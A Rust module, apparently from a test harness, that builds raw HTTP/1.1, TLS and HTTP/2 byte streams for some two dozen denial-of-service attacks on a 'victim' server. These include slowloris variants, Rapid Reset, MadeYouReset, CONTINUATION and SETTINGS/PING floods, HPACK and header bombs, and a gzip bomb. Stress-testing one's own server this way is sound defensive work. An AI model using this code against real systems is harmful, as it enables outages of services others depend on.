//! Every attack, as bytes.

use std::io::Write as _;
use std::sync::Arc;
use std::time::Duration;

use flate2::Compression;
use flate2::write::GzEncoder;
use rustls::ClientConnection;

use super::flood::{Flood, Line};
use super::hold::Hold;
use super::requests::{Content, Requests};
use super::wire::{
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, MAX_FRAME, NEWEST, NONE, PING,
    PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, headers, indexed_literal, literal, request,
};
use crate::Error;
use crate::peer::Target;

/// The identity of the attacker.
const ATTACKER: &str = "attacker";
/// Streams at once on one connection, as many as the victim allows.
const STREAMS: u32 = 100;
/// The pause of those who are slow.
const SLOW: Duration = Duration::from_millis(250);

/// An attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Kind {
    /// TCP connections on which nothing is said.
    Silent,
    /// A ClientHello, and then silence.
    HalfOpen,
    /// A ClientHello, a byte at a time.
    SlowHandshake,
    /// An HTTP/1.1 head, a line at a time.
    SlowHead1,
    /// An HTTP/2 head, a CONTINUATION at a time.
    SlowHead2,
    /// An HTTP/1.1 body, a byte at a time.
    SlowBody1,
    /// As many HTTP/2 bodies as a connection carries, a byte at a time.
    SlowBody2,
    /// As many responses as a connection carries, none of them taken.
    ZeroWindow,
    /// Requests that are taken back at once. (CVE-2023-44487)
    RapidReset,
    /// Requests that the victim is made to reset. (CVE-2025-8671)
    MadeYouReset,
    /// A head that never ends. (RUSTSEC-2024-0332)
    Continuation,
    /// The same, of nothing.
    EmptyContinuation,
    /// Heads of 128 KiB.
    HeaderBytes,
    /// Heads of 4,000 fields.
    HeaderCount,
    /// Heads of 16 KiB that decode to 64 MiB. (RFC 7541 7.3)
    Hpack,
    /// DATA of no bytes. (RUSTSEC-2026-0258)
    EmptyData,
    /// DATA of one byte.
    TinyData,
    /// SETTINGS, each to be acknowledged. (CVE-2019-9515)
    Settings,
    /// PING, each to be answered. (CVE-2019-9512)
    Ping,
    /// Bodies without an end.
    EndlessBody,
    /// Bodies of 64 KiB that decompress to 64 MiB, for a layer of the router.
    Gzip,
    /// The same, for the listener's `decompress_requests`.
    GzipListener,
    /// Requests of which one in a hundred makes the handler panic.
    Panics,
}

/// What an attack is made of.
pub(super) enum Means {
    Hold(Hold),
    Flood(Flood),
    Requests(Requests),
}

impl Kind {
    pub(super) fn means(self, target: &Target) -> Result<Means, Error> {
        let http1 = || target.config(ATTACKER, "http/1.1");
        let http2 = || target.config(ATTACKER, "h2");
        let strange = |begin, drip| Hold { tls: None, begin, drip, pause: SLOW };
        Ok(match self {
            Self::Silent => Means::Hold(strange(Vec::new(), Vec::new())),
            Self::HalfOpen => Means::Hold(strange(client_hello(target)?, Vec::new())),
            Self::SlowHandshake => {
                let hello = client_hello(target)?;
                Means::Hold(strange(Vec::new(), hello.iter().map(|byte| vec![*byte]).collect()))
            }
            Self::SlowHead1 => Means::Hold(Hold {
                tls: Some(http1()?),
                begin: b"GET /hello HTTP/1.1\r\nhost: victim\r\n".to_vec(),
                drip: vec![b"a: b\r\n".to_vec()],
                pause: SLOW,
            }),
            Self::SlowHead2 => {
                let mut begin = opening(&[]);
                frame(&mut begin, HEADERS, END_STREAM, 1, &request("GET", "/hello"));
                Means::Hold(Hold { tls: Some(http2()?), begin, drip: vec![piece_of_head()], pause: SLOW })
            }
            Self::SlowBody1 => Means::Hold(Hold {
                tls: Some(http1()?),
                begin: b"POST /upload HTTP/1.1\r\nhost: victim\r\ncontent-length: 1000000\r\n\r\n".to_vec(),
                drip: vec![b"x".to_vec()],
                pause: SLOW,
            }),
            Self::SlowBody2 => {
                let (mut begin, mut drip) = (opening(&[]), Vec::new());
                for stream in streams() {
                    frame(&mut begin, HEADERS, END_HEADERS, stream, &request("POST", "/upload"));
                    frame(&mut drip, DATA, NONE, stream, b"x");
                }
                Means::Hold(Hold { tls: Some(http2()?), begin, drip: vec![drip], pause: SLOW })
            }
            Self::ZeroWindow => {
                let (mut begin, mut drip) = (opening(&[(INITIAL_WINDOW, 0)]), Vec::new());
                for stream in streams() {
                    frame(&mut begin, HEADERS, END_HEADERS | END_STREAM, stream, &request("GET", "/large"));
                }
                frame(&mut drip, PING, NONE, 0, &[0; 8]); // alive, and in no hurry
                Means::Hold(Hold { tls: Some(http2()?), begin, drip: vec![drip], pause: SLOW })
            }
            Self::RapidReset => {
                let head = request("GET", "/hello");
                flood(target, nothing, move |line, out| {
                    let stream = line.open();
                    frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &head);
                    frame(out, RST_STREAM, NONE, stream, &CANCEL);
                })?
            }
            Self::MadeYouReset => {
                let head = request("POST", "/upload");
                flood(target, nothing, move |line, out| {
                    let stream = line.open();
                    frame(out, HEADERS, END_HEADERS, stream, &head);
                    frame(out, WINDOW_UPDATE, NONE, stream, &[0; 4]); // an increment of 0 (RFC 9113 6.9)
                })?
            }
            Self::Continuation => {
                let piece = piece_of_head();
                flood(target, head_without_end, move |_, out| out.extend_from_slice(&piece))?
            }
            Self::EmptyContinuation => {
                flood(target, head_without_end, |_, out| frame(out, CONTINUATION, NONE, 1, &[]))?
            }
            Self::HeaderBytes => {
                let mut head = request("GET", "/hello");
                (0..16).for_each(|_| literal(&mut head, "bomb", &[b'x'; 8 * 1024]));
                flood(target, nothing, move |line, out| headers(out, END_STREAM, line.open(), &head))?
            }
            Self::HeaderCount => {
                let mut head = request("GET", "/hello");
                (0..4000).for_each(|_| literal(&mut head, "a", b""));
                flood(target, nothing, move |line, out| headers(out, END_STREAM, line.open(), &head))?
            }
            Self::Hpack => {
                let mut head = request("GET", "/hello");
                indexed_literal(&mut head, "bomb", &[b'x'; 4000]);
                head.resize(MAX_FRAME, NEWEST);
                // The entry is made anew each time, and the last one thrown out.
                flood(target, nothing, move |line, out| headers(out, END_STREAM, line.open(), &head))?
            }
            Self::EmptyData => flood(target, upload, |_, out| frame(out, DATA, NONE, 1, &[]))?,
            Self::TinyData => flood(target, upload, |_, out| frame(out, DATA, NONE, 1, b"x"))?,
            Self::Settings => flood(target, hello, |_, out| frame(out, SETTINGS, NONE, 0, &[]))?,
            Self::Ping => flood(target, hello, |_, out| frame(out, PING, NONE, 0, &[0; 8]))?,
            Self::EndlessBody => Means::Requests(Requests {
                config: http2()?,
                method: "POST",
                path: "/upload",
                headers: &[],
                content: Content::Endless,
            }),
            Self::Gzip | Self::GzipListener => Means::Requests(Requests {
                config: http2()?,
                method: "POST",
                path: if self == Self::Gzip { "/unpack" } else { "/keep" },
                headers: &[("content-encoding", "gzip")],
                content: Content::Whole(bomb()?.into()),
            }),
            Self::Panics => Means::Requests(Requests {
                config: http2()?,
                method: "GET",
                path: "/dice",
                headers: &[],
                content: Content::Nothing,
            }),
        })
    }
}

fn flood(
    target: &Target,
    begin: fn(&mut Line, &mut Vec<u8>),
    unit: impl Fn(&mut Line, &mut Vec<u8>) + Send + Sync + 'static,
) -> Result<Means, Error> {
    let config = target.config(ATTACKER, "h2")?;
    Ok(Means::Flood(Flood { config, begin: Box::new(begin), unit: Box::new(unit) }))
}

fn nothing(_: &mut Line, _: &mut Vec<u8>) {}

/// One honest request, so that the connection has earned its place.
fn hello(line: &mut Line, out: &mut Vec<u8>) {
    frame(out, HEADERS, END_HEADERS | END_STREAM, line.open(), &request("GET", "/hello"));
}

fn head_without_end(line: &mut Line, out: &mut Vec<u8>) {
    frame(out, HEADERS, END_STREAM, line.open(), &request("GET", "/hello"));
}

fn upload(line: &mut Line, out: &mut Vec<u8>) {
    frame(out, HEADERS, END_HEADERS, line.open(), &request("POST", "/upload"));
}

/// The ids of the first streams of a client.
fn streams() -> impl Iterator<Item = u32> {
    (0..STREAMS).map(|number| 2 * number + 1)
}

/// Preface and SETTINGS.
fn opening(settings: &[(u16, u32)]) -> Vec<u8> {
    let (mut out, mut payload) = (PREFACE.to_vec(), Vec::new());
    for (name, value) in settings {
        payload.extend_from_slice(&name.to_be_bytes());
        payload.extend_from_slice(&value.to_be_bytes());
    }
    frame(&mut out, SETTINGS, NONE, 0, &payload);
    out
}

fn piece_of_head() -> Vec<u8> {
    let (mut piece, mut field) = (Vec::new(), Vec::new());
    literal(&mut field, "a", b"b");
    frame(&mut piece, CONTINUATION, NONE, 1, &field);
    piece
}

fn bomb() -> std::io::Result<Vec<u8>> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    for _ in 0..64 {
        encoder.write_all(&[0; 1024 * 1024])?;
    }
    encoder.finish()
}

fn client_hello(target: &Target) -> Result<Vec<u8>, Error> {
    let mut hello = Vec::new();
    let config = target.config(ATTACKER, "h2")?;
    ClientConnection::new(Arc::clone(&config), target.name())?.write_tls(&mut hello)?;
    Ok(hello)
}
